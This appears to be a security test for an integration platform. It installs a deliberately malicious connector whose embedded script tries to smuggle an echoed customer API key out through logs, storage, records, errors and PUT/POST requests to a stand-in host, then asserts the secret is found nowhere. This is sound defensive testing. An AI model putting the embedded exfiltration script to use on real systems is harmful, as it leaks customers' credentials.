import { readdirSync, readFileSync } from 'node:fs'
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { dirname, join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { gzipSync } from 'node:zlib'
import { MongoClient } from 'mongodb'
import t, { type Test } from 'tap'
import { type Service, startService } from '../faults/start-service.ts'
import type { Person } from '../marketplace/gateway/build-app.ts'
import { changedPackage } from '../sdk/package/good-package.ts'
import { peopleAt } from './people-at.ts'
import { publishPackage } from './publish-package.ts'

const SECRET = 'Zk9-pLm"Secret.Of+The/Cust&42='
/** Stands beside every echo: where it is found, the secret would be too. */
const WITNESS = 'witness-of-the-echo'

/** The forms in which the upstream shows what it was sent. */
const FORMS: Record<string, (secret: string) => string> = {
  plain: (secret) => secret,
  json: (secret) => JSON.stringify({ [secret]: secret }),
  slashes: (secret) => JSON.stringify(secret).replaceAll('/', '\\/'),
  html: (secret) => secret.replaceAll('&', '&amp;').replaceAll('"', '&quot;'),
  url: (secret) => encodeURIComponent(secret),
  form: (secret) => new URLSearchParams({ secret }).toString(),
  hex: (secret) => Buffer.from(secret).toString('hex'),
  base64: (secret) => Buffer.from(secret).toString('base64'),
  base64At1: (secret) => Buffer.from(`.${secret}`).toString('base64url'),
  base64At2: (secret) => Buffer.from(`..${secret}`).toString('base64'),
  capitals: (secret) => secret.toUpperCase(),
  backwards: (secret) => [...secret].reverse().join(''),
}

/** Whether a text holds the secret in any of its forms, also as JSON writes them down once more. */
function formsIn(text: string): string[] {
  const folded = text.toLowerCase()
  // Base64 without the letters that it shares with its neighbours.
  const core = (form: string) => form.slice(form.length > 50 ? 0 : 4, -4).toLowerCase()
  const found = (form: string) =>
    folded.includes(core(form)) || folded.includes(core(JSON.stringify(form).slice(1, -1)))
  return Object.keys(FORMS).filter((name) => found(FORMS[name]?.(SECRET) ?? ''))
}

interface Upstream {
  port: number
  /** What the other host was sent: request lines, headers and bodies. */
  stolen: string[]
  /** The credentials that came. */
  seen: Set<string>
}

async function startUpstream(t: Test): Promise<Upstream> {
  const stolen: string[] = []
  const seen = new Set<string>()
  const server = createServer((request, response) => {
    if (request.headers.host !== 'api.erp.example') return steal(request, response, stolen)
    const secret = request.headers.authorization?.slice('Bearer '.length) ?? ''
    seen.add(secret)
    echo(new URL(request.url ?? '', 'http://x').pathname.slice(1), response, secret)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  t.teardown(() => {
    server.closeAllConnections()
    server.close()
  })
  return { port: (server.address() as AddressInfo).port, stolen, seen }
}

function steal(request: IncomingMessage, response: ServerResponse, stolen: string[]): void {
  let body = ''
  request.on('data', (chunk: Buffer) => {
    body += chunk.toString()
  })
  request.on('end', () => {
    stolen.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)} ${body}`)
    response.end('thanks')
  })
}

function echo(form: string, response: ServerResponse, secret: string): void {
  if (form === 'lost') {
    return void response.writeHead(302, { location: `https://${FORMS.hex?.(secret)}.erp.example/` }).end()
  }
  if (form === 'letters') return void spell(response, `${WITNESS} ${secret}`)
  const body = gzipSync(`${WITNESS} ${FORMS[form]?.(secret) ?? secret}`)
  const status = form === 'plain' ? 401 : 200
  response.writeHead(status, `Not ${secret}`, {
    'content-encoding': 'gzip',
    'content-type': `text/plain; witness=${WITNESS}`,
    'x-echo': FORMS.url?.(secret),
    'set-cookie': [`${FORMS.hex?.(secret)}=1`, `key=${secret}`],
    [`x-${FORMS.hex?.(secret)}`]: WITNESS,
  })
  response.end(body)
}

async function spell(response: ServerResponse, text: string): Promise<void> {
  for (const letter of text) {
    response.write(letter)
    await sleep(1)
  }
  response.end()
}

/** Gets the echo and carries it wherever an extension can. */
const SCRIPT = `
const API = 'https://api.erp.example/'
const OTHER = 'https://other.erp.example/'
async function look(ctx, form) {
  try {
    const answer = await ctx.fetch(API + form)
    const headers = JSON.stringify([...answer.headers.entries()])
    return [form, answer.url, answer.status, answer.statusText, headers, await answer.text()].join(' ')
  } catch (error) {
    return form + ' ${WITNESS} ' + error.code + ' ' + error.message
  }
}
async function lookAtAll(ctx) {
  const texts = []
  for (const form of ${JSON.stringify([...Object.keys(FORMS), 'letters', 'lost'])}) texts.push(await look(ctx, form))
  return texts
}
var annexExtension = { default: { kind: 'connector',
  async check(ctx) {
    const texts = await lookAtAll(ctx)
    for (const text of texts) ctx.log.info(text, { [text.slice(-100)]: text })
    console.error(texts[0])
    await ctx.kv.set('seen', texts)
    await ctx.kv.set(texts[0].slice(-200), 1)
    for (const form of ['letters', 'json']) {
      const file = await ctx.fetch(API + form, { as: 'file' })
      await ctx.fetch(OTHER + 'file', { method: 'PUT', body: file, headers: { 'x-type': file.type } })
    }
    const stolen = { method: 'POST', headers: { 'x-stolen': texts[0].slice(-200).replace(/[^ -~]/g, ' ') } }
    await ctx.fetch(OTHER + encodeURIComponent(texts[1].slice(-300)), { ...stolen, body: texts.join('\\n') })
    return texts.map((text) => ({ name: text.slice(0, 100), ok: false, code: text.slice(-100), message: text.slice(0, 1900) }))
  },
  streams: { sites: { schema: { type: 'object' }, primaryKey: ['id'], async *read(ctx) {
    const texts = await lookAtAll(ctx)
    const records = texts.map((text, i) => ({ id: 'r' + i, reference: 'R' + i, name: text.slice(-190), status: 'ACTIVE' }))
    yield { records, checkpoint: { texts } }
    yield { records: texts.map((text, i) => ({ id: text.slice(-60), [text.slice(-60)]: text, name: 7 + i })), checkpoint: 1 }
    throw new TypeError(texts.join(' '))
  } } },
} }
`

function bytesOf(): Uint8Array {
  return changedPackage({
    files: { 'dist/extension.js': SCRIPT },
    manifest: ({ annex }) => {
      annex.egress = [{ host: '*.erp.example', reason: 'The ERP and what belongs to it' }]
    },
  })
}

async function open(t: Test, upstream: Upstream): Promise<{ service: Service; owner: Person; installation: string }> {
  const target = { address: '127.0.0.1', port: upstream.port, scheme: 'http' }
  const service = await startService(t, {
    ANNEX_SEED: 'off',
    ANNEX_LOG_LEVEL: 'debug',
    ANNEX_EGRESS_OVERRIDES: JSON.stringify({ 'api.erp.example': target, 'other.erp.example': target }),
  })
  const people = peopleAt(service.url())
  const [, email = '', password = ''] = /^operator\s+(\S+)\npassword\s+(\S+)/m.exec(service.process().output()) ?? []
  await publishPackage(people, await people.signIn(email, password), bytesOf())
  const owner = await people.person('owner')
  const path = '/api/marketplace/install/acme/site-import'
  const { details } = (await owner.call('POST', path, {})).body as { details: { grant: object } }
  const installed = await owner.call('POST', path, { grant: details.grant })
  const fieldMappings = ['reference', 'name', 'status'].map((each) => ({ sourceField: each, targetField: each }))
  const sites = { direction: 'INBOUND', resource: 'chantiers', fieldMappings }
  const draft = { name: 'ERP', slug: 'erp', connectorId: installed.text('id'), credentials: { apiKey: SECRET } }
  const made = await owner.call('POST', '/api/integrations', { ...draft, streams: { sites } })
  if (made.status !== 201) throw new Error(JSON.stringify(made.body))
  return { service, owner, installation: `/api/marketplace/installations/${installed.text('id')}` }
}

async function sync(owner: Person): Promise<string> {
  const started = await owner.call('POST', '/api/integrations/erp/sync')
  const job = `/api/jobs/${started.text('jobId')}`
  for (let tries = 0; tries < 400; tries++) {
    const state = (await owner.call('GET', job)).text('state')
    if (state !== 'READY' && state !== 'LEASED') break
    await sleep(50)
  }
  return JSON.stringify([started.body, (await owner.call('GET', job)).body])
}

/** Everything that the store keeps, as bytes where there are files. */
async function storedText({ store: { engine } }: Service): Promise<string> {
  if (engine.kind === 'sqlite') {
    const folder = dirname(engine.path)
    const files = readdirSync(folder).filter((name) => name.startsWith('annex') || name.includes('.db'))
    return files.map((name) => readFileSync(join(folder, name)).toString('latin1')).join('\n')
  }
  const client = new MongoClient(engine.uri)
  try {
    const collections = await client.db(engine.database).collections()
    const documents = await Promise.all(collections.map((each) => each.find({}).toArray()))
    return JSON.stringify(documents)
  } finally {
    await client.close()
  }
}

t.test('a secret that the upstream echoes is nowhere but sealed', async (t) => {
  for (const [name, form] of Object.entries(FORMS)) {
    t.ok(formsIn(`before ${form(SECRET)} after`).includes(name), `control: ${name} would be found`)
  }
  const upstream = await startUpstream(t)
  const { service, owner, installation } = await open(t, upstream)
  const read = async (path: string) => JSON.stringify((await owner.call('GET', path)).body)

  const places: Record<string, string> = {
    'the answer of the test': JSON.stringify((await owner.call('POST', '/api/integrations/erp/test')).body),
    'what the job tells of the sync': await sync(owner),
  }
  t.same([...upstream.seen], [SECRET], 'control: the upstream was sent it')
  places['the runs'] = await read(`${installation}/invocations`)
  places['the log lines of the runs'] = await read(`${installation}/logs`)
  places['the log of the integration'] = await read('/api/integrations/erp/logs?limit=200')
  places['the state of the integration'] = await read('/api/integrations/erp/status')
  places['the quarantine'] = await read('/api/integrations/erp/quarantine?limit=200')
  places['the records'] = await read('/api/v1/chantiers?limit=200')
  places['what another host was sent'] = upstream.stolen.join('\n')
  const audit = await read('/api/audit?limit=200')
  t.equal(await service.stop(), 0)
  places['the store'] = await storedText(service)

  for (const [place, text] of Object.entries(places)) {
    t.ok(text.includes(WITNESS), `control: ${place} shows what stood beside it`)
    t.same(formsIn(text), [], place)
  }
  t.match(audit, /egress\.fetch/, 'control: the audit trail tells of the requests')
  t.same(formsIn(audit), [], 'the audit trail')
  const log = service.process().output()
  t.match(log, /an upstream could not be reached/, 'control: the service’s log tells of a host named after the secret')
  t.same(formsIn(log), [], 'the log of the service')
  t.ok(upstream.stolen.length === 3, 'control: the other host got two files and a request')
})
